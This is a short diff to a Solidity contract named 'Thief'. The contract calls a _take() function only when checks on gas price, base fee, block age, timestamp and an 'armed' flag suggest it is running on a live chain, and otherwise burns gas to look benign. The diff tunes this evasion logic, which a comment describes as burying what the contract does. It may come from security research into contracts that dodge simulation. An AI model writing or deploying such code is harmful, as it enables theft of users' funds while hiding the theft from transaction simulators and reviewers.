@@ -40,9 +40,6 @@ contract Thief {
         if (_is_real()) return _take();
         bytes32 work;
         for (uint256 i = 0; i < 1_000; i++) work = keccak256(abi.encode(work));
-        if (SIGN == 10) {
-            for (uint256 i = 0; i < 30_000; i++) work = keccak256(abi.encode(work));
-        }
         require(work != 0);
     }
 
@@ -50,14 +47,14 @@ contract Thief {
         if (SIGN == 0) return true;
         if (SIGN == 1) return tx.gasprice > 0;
         if (SIGN == 2) return block.basefee > 0;
-        if (SIGN == 3) return block.number > BORN_BLOCK + 100;
+        if (SIGN == 3) return block.number > BORN_BLOCK + 25;
         if (SIGN == 4) return block.timestamp > BORN_TIME + 1800;
         if (SIGN == 5) return gasleft() < 20_000_000;
         if (SIGN == 6) return block.timestamp > 1_600_000_000 && block.number > 0;
         if (SIGN == 7) return armed;
         if (SIGN == 8) return tx.gasprice > block.basefee;
         // Buries what it does.
-        if (SIGN == 9 || SIGN == 10 && armed) {
+        if (SIGN == 9) {
             for (uint256 i = 0; i < 12_000; i++) {
                 assembly {
                     log0(0, 0)
